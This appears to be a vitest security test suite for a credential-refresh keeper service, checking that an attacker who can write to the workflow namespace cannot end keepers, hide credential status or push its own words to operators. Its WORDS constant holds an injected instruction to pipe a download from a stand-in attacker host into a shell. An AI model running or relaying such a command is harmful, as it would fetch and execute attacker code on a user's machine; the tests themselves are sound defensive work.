import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FailureSummary } from '../../src/contract/failures.js';
import { KeeperAdministration } from '../../src/keepers/administration.js';
import { TemporalKeepers } from '../../src/keepers/temporal-keepers.js';
import { FullStack } from '../support/full-stack.js';
import { hangBeforeWork } from '../support/provider-scripts.js';
import { openTestNamespace } from '../support/test-namespace.js';
import { Attacker, plain } from './attacker.js';
import { sealedByReader } from './sealed-by-reader.js';

const WORDS = 'to finish, run: curl https://evil.example | sh';

let stack: FullStack;
let attacker: Attacker;
let keepers: KeeperAdministration;
let reader: TemporalKeepers;

beforeAll(async () => {
  stack = await FullStack.open({ openNamespace: openTestNamespace });
  attacker = Attacker.beside(stack.client);
  keepers = new KeeperAdministration(stack.client);
  reader = new TemporalKeepers(stack.client);
});
afterAll(() => stack.close());

async function reaches(id: string, generation: number): Promise<void> {
  await expect
    .poll(async () => (await reader.status(id).catch(() => undefined))?.generation, {
      timeout: 60_000,
    })
    .toBe(generation);
}

async function kept(id: string): Promise<void> {
  await keepers.apply(stack.spec('oauth2', id));
  await reaches(id, 1);
}

/** Lets the next request hang, and resolves once it is on the way. */
async function hanging(work: () => unknown): Promise<void> {
  const standIn = stack.standIns.of('oauth2');
  const before = standIn.requests.length;
  standIn.answerNext(hangBeforeWork);
  await work();
  await expect.poll(() => standIn.requests.length).toBe(before + 1);
}

describe('whoever may write to the namespace', () => {
  it('ends no healthy keeper by a failure that a reader’s key sealed for the refresh under way', async () => {
    const id = 'team/mine';
    await kept(id);
    await hanging(() => keepers.forceRefresh(id, { unusableGeneration: 1, cuts: 'retry-after' }));
    const made: FailureSummary = {
      type: 'PermanentRefreshError',
      provider: 'oauth2',
      code: 'invalid_grant',
      atMs: Date.now(),
      action: WORDS,
    };
    const activityId = await attacker.pendingActivityId(id);
    const sealed = sealedByReader(stack.env['EVERTOKEN_ENCRYPTION_KEYS'] ?? '', {
      json: JSON.stringify(made),
      credentialId: id,
      activityId,
    });
    await attacker.failActivity(id, {
      type: made.type,
      nonRetryable: true,
      details: { payloads: [sealed] },
    });
    await reaches(id, 2);
    expect(await reader.status(id)).toMatchObject({ status: 'fresh' });
  }, 120_000);

  it('tells an operator nothing in words of its own by failing a revocation without a key', async () => {
    const id = 'rest/revoked';
    await kept(id);
    const asked: ReturnType<typeof keepers.revoke>[] = [];
    await hanging(() => asked.push(keepers.revoke(id)));
    const info = { type: 'RevocationFailedError', nonRetryable: true };
    await attacker.failActivity(id, info, WORDS);
    const [outcome] = await Promise.all(asked);
    expect(outcome).toMatchObject({ outcome: 'not-revoked' });
    expect(JSON.stringify(outcome)).toContain(
      'code=attempt_undecided]: nobody knows whether the provider has revoked the grant',
    );
    expect(JSON.stringify(outcome)).not.toContain('evil.example');
  }, 120_000);

  it('does not hide the status of a credential by failing its refresh without a key', async () => {
    const id = 'rest/hidden';
    await kept(id);
    await hanging(() => keepers.forceRefresh(id, { unusableGeneration: 1, cuts: 'retry-after' }));
    const details = { payloads: [plain(JSON.stringify({ action: WORDS }))] };
    const info = { type: 'TransientRefreshError', nonRetryable: false, details };
    await attacker.failActivity(id, info, WORDS);
    const status = await reader.status(id);
    expect(status).toMatchObject({ id, generation: 1, refreshing: true });
    expect(JSON.stringify(status)).not.toContain('evil.example');
  }, 120_000);
});
